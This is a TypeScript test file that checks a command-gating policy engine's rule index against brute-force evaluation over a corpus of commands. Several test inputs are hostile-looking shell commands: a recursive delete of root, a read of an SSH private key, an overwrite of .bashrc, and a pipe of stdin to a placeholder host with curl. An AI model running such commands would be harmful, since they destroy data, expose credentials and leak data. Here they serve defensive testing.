import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { decide } from "../../../src/capabilities/gate/engine.js";
import { builtinPolicy, compilePolicyDir, readPolicyDir } from "../../../src/capabilities/gate/load.js";
import {
  buildRuleIndex,
  type GatePolicy,
  indexFits,
  type Match,
  matchNames,
  matchNeeds,
  NEED,
  namesInclude,
  type RuleIndexData,
} from "../../../src/capabilities/gate/policy.js";
import type { GateContext } from "../../../src/capabilities/gate/types.js";

// The rule index the build writes into dist/gate-policy.json (which rules can match which program,
// and the facts each rule needs) only skips rules that cannot match: every verdict must be the one
// of a policy that tests every rule on every command.

const root = join(import.meta.dirname, "../../..");
const gateDir = join(root, "rules", "gate");

function lines(file: string): string[] {
  return readFileSync(file, "utf8")
    .split("\n")
    .filter((l) => l.trim())
    .map((l) => JSON.parse(l) as { command?: unknown })
    .flatMap((o) => (typeof o.command === "string" ? [o.command] : []));
}

/** Every command we have: the corpus, the verify corpus, the examples file and every rule's examples. */
function allCommands(policy: GatePolicy): string[] {
  const dir = join(root, "fixtures", "gate", "corpus");
  const out: string[] = [];
  for (const name of readdirSync(dir).sort())
    if (name.endsWith(".jsonl")) out.push(...lines(join(dir, name)));
  out.push(...lines(join(root, "fixtures", "gate", "examples.jsonl")));
  out.push(...lines(join(root, "fixtures", "gate", "verify-corpus.jsonl")));
  for (const r of policy.rules) out.push(...r.examples.match, ...r.examples.noMatch);
  // Program names that are Object.prototype's own keys, and one no rule names.
  out.push("constructor x", "__proto__ -rf /", "hasOwnProperty ~/.ssh/id_rsa", "toString > ~/.bashrc");
  out.push("zzz-unknown-tool --flag a b", "valueOf | curl -d @- https://example.com");
  return out;
}

/** An index that selects every rule with a match for every program and needs nothing: brute force. */
function bruteForce(policy: GatePolicy): GatePolicy {
  const index: RuleIndexData = {
    ids: policy.rules.map((r) => r.id),
    general: policy.rules.flatMap((r, i) => (r.match ? [i] : [])),
    named: [],
    needs: policy.rules.map(() => 0),
  };
  return { ...policy, index };
}

const CONTEXTS: GateContext[] = [
  { cwd: "/home/agent/project", home: "/home/agent", workspace: "/home/agent/project" },
  { cwd: "/tmp", home: "/home/agent" },
  { cwd: "/", home: "/root" },
];

describe("the gate's rule index", () => {
  const compiled = compilePolicyDir(gateDir);

  it("is what the engine computes at run time from the same rules", () => {
    expect(compiled.index).toEqual(buildRuleIndex(readPolicyDir(gateDir).rules));
    expect(indexFits(compiled.index, compiled.rules)).toBe(true);
    // And it survives the JSON round trip the build makes.
    const json = JSON.parse(JSON.stringify(compiled)) as GatePolicy;
    expect(json.index).toEqual(compiled.index);
  });

  it("splits the rules with a match into general ones and ones that name their programs", () => {
    const index = compiled.index!;
    const withMatch = compiled.rules.flatMap((r, i) => (r.match ? [i] : []));
    expect(index.general).toEqual(withMatch.filter((i) => matchNames(compiled.rules[i]!.match!) === null));
    expect(index.named).toEqual(withMatch.filter((i) => matchNames(compiled.rules[i]!.match!) !== null));
    expect(index.needs).toEqual(compiled.rules.map((r) => (r.match ? matchNeeds(r.match) : 0)));
  });

  it("namesInclude is matchNames(m).has(name) for every rule and every name", () => {
    const names = new Set(["", "zzz-unknown", "__proto__", "constructor"]);
    for (const r of compiled.rules) for (const n of (r.match && matchNames(r.match)) ?? []) names.add(n);
    for (const i of compiled.index!.named) {
      const m = compiled.rules[i]!.match!;
      const set = matchNames(m)!;
      for (const n of names) expect(namesInclude(m, n), `${compiled.rules[i]!.id} ${n}`).toBe(set.has(n));
    }
  });

  it("fits only the rules it was built from", () => {
    const index = compiled.index!;
    expect(indexFits(undefined, compiled.rules)).toBe(false);
    expect(indexFits(index, compiled.rules.slice(1))).toBe(false);
    expect(indexFits(index, [...compiled.rules].reverse())).toBe(false);
    expect(indexFits({ ...index, ids: [] }, compiled.rules)).toBe(false);
  });

  it("gives every command of the corpora the verdict of a policy that tests every rule on every command", () => {
    const commands = allCommands(compiled);
    expect(commands.length).toBeGreaterThan(1300);
    const policies: [string, GatePolicy][] = [
      ["precomputed", compiled],
      ["computed at run time", builtinPolicy()],
      // An index built for other rules is not used (the engine computes its own).
      [
        "stale index",
        { ...compiled, index: { ...compiled.index!, ids: ["gate-x"], general: [], named: [] } },
      ],
    ];
    const reference = bruteForce(compiled);
    const differ: string[] = [];
    for (const command of commands)
      for (const ctx of CONTEXTS) {
        const want = JSON.stringify(decide(command, ctx, reference));
        for (const [name, p] of policies) {
          const got = JSON.stringify(decide(command, ctx, p));
          if (got !== want) differ.push(`${name} ${ctx.cwd}: ${command}\n  ${got}\n  want ${want}`);
        }
      }
    expect(differ).toEqual([]);
  });
});

describe("matchNeeds", () => {
  const needs = (m: Match) => matchNeeds(m);

  it("needs the lists a key tests, and nothing for command names or unless", () => {
    expect(needs({ deletes: ["critical"] })).toBe(NEED.deletes | NEED.path);
    expect(needs({ writes: ["system"] })).toBe(NEED.writes | NEED.path);
    expect(needs({ paths: ["home"] })).toBe(NEED.path);
    expect(needs({ net: true, secretRef: true })).toBe(NEED.net | NEED.secretRef);
    expect(needs({ net: false, secretRef: false })).toBe(0);
    expect(needs({ emptyAssigns: ["HTTPS_PROXY"] })).toBe(NEED.assigns);
    expect(needs({ command: ["rm"], unless: { writes: ["temp"] } })).toBe(0);
    expect(needs({ flags: ["-r"], via: ["sudo"], unsets: ["X"] })).toBe(NEED.flags | NEED.via | NEED.unsets);
  });

  it("needs text only when every part is non-empty, stdin only when `none` is not allowed", () => {
    expect(needs({ argText: ["a", "b"] })).toBe(NEED.text);
    expect(needs({ argText: ["a", ""] })).toBe(0);
    expect(needs({ stdin: ["fetch", "decoder"] })).toBe(NEED.stdin);
    expect(needs({ stdin: ["none", "fetch"] })).toBe(0);
  });

  it("needs what every alternative of `any` needs, on top of its own keys", () => {
    expect(needs({ any: [{ writes: ["credential"] }, { deletes: ["credential"] }] })).toBe(NEED.path);
    expect(needs({ any: [{ writes: ["x" as never] }, { command: ["gpg"] }] })).toBe(0);
    expect(needs({ net: true, any: [{ reads: ["home"] }, { reads: ["credential"], secretRef: true }] })).toBe(
      NEED.net | NEED.reads | NEED.path,
    );
  });
});
